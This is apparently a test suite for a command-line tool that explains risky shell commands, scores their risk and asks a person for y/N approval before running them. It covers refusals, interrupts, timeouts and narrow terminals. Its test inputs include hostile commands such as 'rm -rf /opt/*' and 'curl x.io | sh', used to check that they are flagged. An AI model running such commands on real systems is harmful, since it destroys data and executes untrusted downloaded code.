import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { stripVTControlCharacters } from 'node:util';
import { describe, expect, test } from 'vitest';
import { emptyDirectory, noTerminal, startOnPipes, startOnTerminal } from './start-quickstart.js';

const control = '\u001b';
const erase = `\r${control}[2K`;
const spinner = /[⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏]/;
const prompt = 'Run it? [y/N] ';

describe.skipIf(noTerminal)('on a terminal', () => {
  test('asks, and runs the command after a yes', async () => {
    const started = startOnTerminal(emptyDirectory(), []);
    await started.shows(prompt);
    started.process.stdin?.write('y\n');
    const { stdout, code } = await started.ended;
    expect(code).toBe(0);
    expect(stdout).toContain('This needs your approval');
    // One word of its own is as long as a path may be, so the reason is broken.
    expect(stripVTControlCharacters(stdout).replace(/[\s┃]+/g, ' ')).toMatch(
      /command chmod 777 release\.txt why Lets everybody change \/\S+\/release\.txt\. risk 0\.\d\d of 1 on localhost, in \//,
    );
    expect(stdout).toContain('localhost, in /');
    expect(stdout).toContain('propose › analyse › assess › gate › approve › execute › record');
    expect(stdout).toContain(`${control}[32m✔ succeeded`);
    expect(stdout).toContain('approved by ');
  });

  // An n, a no, nothing, and Ctrl-D.
  test.for(['n\n', 'No\n', '\n', '\u0004'])('does not run it after %j', async (typed) => {
    const directory = emptyDirectory();
    const started = startOnTerminal(directory, ['touch ran; chmod 777 ran']);
    await started.shows(prompt);
    started.process.stdin?.write(typed);
    const { stdout, code } = await started.ended;
    expect(code).toBe(3);
    expect(stdout).toContain('⊘ rejected');
    expect(stdout).toContain('the answer was no');
    expect(existsSync(join(directory, 'ran'))).toBe(false);
  });

  test.for([
    ['y\n', '✔ succeeded', 'approved by'],
    ['n\n', '⊘ rejected', 'the answer was no'],
    // A word that only begins like yes.
    ['yeah\n', '⊘ rejected', 'no clear answer'],
  ] as const)('asks once more after what is neither yes nor no; then %j', async ([typed, status, why]) => {
    const directory = emptyDirectory();
    const started = startOnTerminal(directory, ['touch ran; chmod 777 ran']);
    await started.shows(prompt);
    started.process.stdin?.write('maybe\n');
    await started.shows('Please answer y or n: ');
    started.process.stdin?.write(typed);
    const { stdout } = await started.ended;
    expect(stdout).toContain(status);
    expect(stdout).toContain(why);
    expect(existsSync(join(directory, 'ran'))).toBe(typed === 'y\n');
  });

  test.for([[[]], [['touch ran; chmod 777 ran']]])(
    'Ctrl-C at the question is no answer but an interruption, with %j',
    async ([args = []]) => {
      const directory = emptyDirectory();
      const started = startOnTerminal(directory, args);
      await started.shows(prompt);
      started.process.stdin?.write('\u0003');
      const { stdout, code } = await started.ended;
      expect(code).toBe(130);
      expect(stdout).toContain('■ cancelled');
      expect(stdout).toContain('Interrupted');
      expect(existsSync(join(directory, 'ran'))).toBe(false);
    },
  );

  test('shows the whole of a long command before asking', async () => {
    const words = Array.from({ length: 40 }, (_, index) => `word-${index}`);
    const started = startOnTerminal(emptyDirectory(), [`rm -rf ${words.join(' ')}; rm -rf /opt/*; curl x.io | sh`], {
      NO_COLOR: '1',
    });
    await started.shows(prompt);
    started.process.stdin?.write('n\n');
    const { stdout } = await started.ended;
    const question = stdout.slice(stdout.indexOf('This needs'), stdout.indexOf(prompt));
    // Also in plain language, with the worst of it first among the reasons.
    const told = question.replace(/[\s┃]+/g, ' ');
    expect(told).toMatch(/ does Deletes .* Then downloads from x\.io\. .* why • “sh”: Runs what was downloaded\. • /);
    for (const word of words) expect(question).toMatch(new RegExp(`\\b${word}\\b`));
    for (const line of question.split('\r\n')) expect(line.length).toBeLessThanOrEqual(80);
  });

  test('takes no answer that was typed before the question', async () => {
    const directory = emptyDirectory();
    const started = startOnTerminal(directory, []);
    await started.shows('$ sleep 30');
    started.process.stdin?.write('y\n');
    await started.shows(prompt);
    started.process.stdin?.write('n\n');
    const { stdout } = await started.ended;
    expect(stdout).toContain('⊘ rejected');
  });

  test('Ctrl-C ends the command that runs, and the history knows it', async () => {
    const directory = emptyDirectory();
    const started = startOnTerminal(directory, ['touch begun; chmod 777 begun; sleep 60; touch survived']);
    await started.shows(prompt);
    started.process.stdin?.write('y\n');
    await expect.poll(() => existsSync(join(directory, 'begun')), { timeout: 20_000 }).toBe(true);
    started.process.stdin?.write('\u0003');
    const { stdout, code } = await started.ended;
    expect(code).toBe(130);
    expect(stdout).toContain('■ cancelled');
    expect(stdout).toContain('Interrupted');

    const next = await startOnPipes(directory, []).ended;
    expect(next.stdout).toMatch(/touch begun; chmod 777.*■ cancelled/);
  });

  test('a command of your own that takes too long is ended', async () => {
    const started = startOnTerminal(emptyDirectory(), ['--timeout', '0.3', 'sleep 60']);
    const { stdout, code } = await started.ended;
    expect(code).toBe(4);
    // Nothing in it is risky: nobody was asked.
    expect(stdout).not.toContain(prompt);
    expect(stdout).toContain('◷ timed-out');
  });

  test('draws a living line that it takes away again, without colour if so wished', async () => {
    const started = startOnTerminal(emptyDirectory(), [], { NO_COLOR: '1' });
    await started.shows(prompt);
    started.process.stdin?.write('n\n');
    const { stdout } = await started.ended;
    expect(stdout).toMatch(spinner);
    for (const colour of ['1m', '2m', '31m', '32m', '33m', '36m', '39m']) {
      expect(stdout).not.toContain(`${control}[${colour}`);
    }
    for (const line of stdout.split('\r\n')) expect(line.split(erase).at(-1)).not.toMatch(spinner);
  });

  test('fits into a narrow window', async () => {
    const started = startOnTerminal(emptyDirectory(), [], { NO_COLOR: '1' }, 44);
    await started.shows(prompt);
    started.process.stdin?.write('n\n');
    const { stdout } = await started.ended;
    const fifth = stdout.slice(stdout.indexOf('5/5'), stdout.indexOf(prompt)).split('\r\n');
    // But for a path in it, which is left whole.
    const broken = fifth.map((line) => line.split(erase).at(-1)).filter((line) => !line?.includes('/opspilot-'));
    for (const line of broken) expect(line?.length).toBeLessThanOrEqual(44);
    const table = stdout.slice(stdout.indexOf(' #  command'), stdout.indexOf('Every command'));
    // The five rows, and what stands below them.
    expect(table.split('\r\n').length).toBeGreaterThan(10);
    for (const line of table.split('\r\n')) expect(line.length).toBeLessThanOrEqual(44);
  });
});
